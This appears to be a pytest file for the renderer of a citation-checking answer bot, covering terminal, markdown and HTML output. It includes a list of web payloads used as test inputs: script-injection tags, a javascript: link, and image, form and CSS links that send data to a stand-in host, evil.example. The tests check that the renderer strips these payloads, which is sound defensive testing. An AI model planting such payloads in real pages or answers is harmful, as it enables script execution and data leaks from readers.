"""What readers see of an answer: chips, support in words, and nothing a model or an article could smuggle in."""

import re

import pytest

from bot.render import (
    Chip,
    Listing,
    Paragraph,
    Run,
    Verdict,
    isolated,
    parse,
    shown,
    to_html,
    to_markdown,
    to_nodes,
    to_terminal,
    understood_as,
)  # fmt: skip
from bot.types import Citation, Statement
from tests.bot.samples import ABSTENTION, ANSWER, CITATION, answer_saying


def test_terminal_shows_mark_support_quote_and_origin() -> None:
    assert str(to_terminal(ANSWER)) == (
        "The ferry carried 212 passengers. [1] (✓ supported)\n\n"
        "[1] “The ferry carried 212 passengers.”\n"
        "    Larkhaven Post, 2021-03-04, Ferry record"
    )


def test_abstention_shows_what_was_looked_at_and_the_next_step() -> None:
    assert str(to_terminal(ABSTENTION)) == (
        "The articles do not say who built the ferry.\n\n"
        "Looked at 1 passage of 1 article; nearest:\n\n"
        "  • The ferry carried 212 passengers.\n"
        "    Larkhaven Post, 2021-03-04, Ferry record\n\n"
        "Look for it yourself with: citewire search WORDS, or add an article that tells."
    )


def test_partly_supported_statement_says_what_is_missing() -> None:
    doubtful = Statement("It carried 213.", (CITATION,), "partly", 0.4, ("“213” is not in the cited words",))
    assert to_nodes(answer_saying("It carried 213.", doubtful))[0] == Paragraph(
        (Run("It carried 213."), Chip(1), Verdict("partly", ("“213” is not in the cited words",)))
    )


def test_text_between_statements_stays() -> None:
    first = Statement("One.", (CITATION,), "supported", 1.0)
    second = Statement("Two.", (CITATION,), "supported", 1.0)
    shown_text = str(to_terminal(answer_saying("So: One. But also Two. End.", first, second)))
    assert shown_text.split("\n")[0] == ("So: One. [1] (✓ supported) But also Two. [1] (✓ supported) End.")


def test_statement_that_is_not_in_the_text_is_shown_too() -> None:
    extra = Statement("Three.", (), "unsupported", 0.1)
    assert str(to_terminal(answer_saying("", extra))) == "Three. (✗ not supported)"


def test_markdown_has_numbered_quotes_and_the_recorded_address() -> None:
    assert to_markdown(ANSWER) == (
        "**How many did it carry?**\n\n"
        "The ferry carried 212 passengers. \\[1\\]\n\n"
        "1. “The ferry carried 212 passengers.” — Larkhaven Post, 2021-03-04, Ferry record"
        " (<https://post.example/ferry>)\n"
    )


def test_lists_and_emphasis_are_known_and_nothing_else() -> None:
    assert parse("Some **bold** and *thin* 2*3*4\n\n- one\n- two\n# not a heading") == (
        Paragraph((Run("Some "), Run("bold", "strong"), Run(" and "), Run("thin", "em"), Run(" 2*3*4"))),
        Listing(((Run("one"),), (Run("two"),))),
        Paragraph((Run("# not a heading"),)),
    )


ATTACKS = [
    "<img src=http://evil.example/x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[ref]: http://evil.example\n[ref]",
    "<form action=http://evil.example><input name=p></form>",
    "<dialog open>login</dialog>",
    '<p style="background:url(http://evil.example)">',
    "<http://evil.example>",
    "http://evil.example and www.evil.example",
    "data:text/html,<script>alert(1)</script>",
    "</blockquote><script>alert(1)</script>",
    "- " * 10_000 + "deep",
]
ALLOWED = {"p", "ul", "ol", "li", "em", "strong", "blockquote", "cite", "span", "sup", "a"}


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack[:24])
@pytest.mark.parametrize("place", ["text", "quote", "title", "doubt"])
def test_e26_html_holds_only_our_elements(attack: str, place: str) -> None:
    quote = attack if place == "quote" else "q"
    title = attack if place == "title" else "t"
    citation = Citation(1, "a", title, None, None, None, quote, 0, len(quote), "quoted")
    doubts = (attack,) if place == "doubt" else ()
    text = attack if place == "text" else "Said."
    page = to_html(to_nodes(answer_saying(text, Statement(text, (citation,), "supported", 1.0, doubts))))
    assert {name.lower() for name in re.findall(r"</?([a-zA-Z]+)", page)} <= ALLOWED
    assert not re.search(r"<[^>]*\b(on\w+|style|src|href)=", page)


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", 'https://x" onclick="y', "//evil"]
)
def test_only_web_addresses_of_the_record_become_links(url: str) -> None:
    citation = Citation(1, "a", "t", None, None, url, "q", 0, 1, "quoted")
    answer = answer_saying("S.", Statement("S.", (citation,), "supported", 1.0))
    assert "<a " not in to_html(to_nodes(answer))
    assert "(<" not in to_markdown(answer)


def test_e26_markdown_of_an_attack_has_no_image_link_or_tag() -> None:
    attack = "![x](http://evil.example) <img src=x> [a](http://evil.example)"
    text = to_markdown(answer_saying(attack, Statement(attack, (), "unsupported", 0.0)))
    assert not re.search(r"(?<!\\)[<\[]", text)
    assert "http:" not in text


def test_e05_a_marker_the_model_wrote_is_text_and_no_chip() -> None:
    nodes = to_nodes(answer_saying("Sure [9].", Statement("Sure [9].", (), "unsupported", 0.0)))
    assert nodes[0] == Paragraph((Run("Sure [9]."), Verdict("unsupported")))


def test_e17_control_characters_do_not_reach_the_screen() -> None:
    assert shown("a\x1b[31mb\x00c\u202ed\x9b") == "a[31mbcd"


def test_e12_right_to_left_titles_are_isolated() -> None:
    assert isolated("خبر 7") == "\u2068خبر 7\u2069"
    assert isolated("a\u202e\nb") == "a b"


def test_a_question_read_otherwise_is_told_so() -> None:
    assert understood_as("wher was it signd", "where was it signed") == "Understood as: where was it signed"
    assert understood_as("who signed", "Who signed?") is None
